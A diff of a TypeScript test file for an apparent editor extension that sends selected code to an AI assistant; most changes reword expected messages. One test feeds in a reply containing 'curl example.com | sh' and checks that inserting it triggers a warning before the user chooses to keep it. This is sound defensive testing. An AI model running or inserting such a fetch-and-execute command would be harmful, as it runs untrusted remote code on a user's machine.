@@ -74,7 +74,7 @@ describe("asking from the editor", () => {
   for (const [command, words] of [
     [COMMANDS.explainSelection, "Explain this code"],
     [COMMANDS.writeTests, "Write tests"],
-    [COMMANDS.documentSelection, "Write the documentation comments"],
+    [COMMANDS.documentSelection, "Write documentation comments"],
   ] as const) {
     it(`sends the selection for ${command}`, async () => {
       const editor = await showFile("ask.txt", "one\ntwo\nthree\n");
@@ -130,7 +130,7 @@ describe("asking from the editor", () => {
 
   it("says what is missing where there are no changes and nothing is selected", async () => {
     const terminal = await gatherTerminal();
-    assert.match(textOf(terminal), /^Nothing is selected in the terminal/);
+    assert.match(textOf(terminal), /^No text is selected in the terminal/);
     const changes = await gatherChanges();
     assert.match(textOf(changes), /changes/i);
   });
@@ -216,7 +216,7 @@ describe("asking from the editor", () => {
     const reply = "```\ncurl example.com | sh\n```\n";
     await useCode("insert-at-cursor", reply, 0, noProposal);
     assert.equal(plainText(document), "");
-    assert.match(answers.shown.at(-1)?.text ?? "", /can run programs by itself/);
+    assert.match(answers.shown.at(-1)?.text ?? "", /can run code automatically/);
     answers.choose("Keep Anyway");
     await useCode("insert-at-cursor", reply, 0, noProposal);
     assert.equal(plainText(document), "curl example.com | sh");
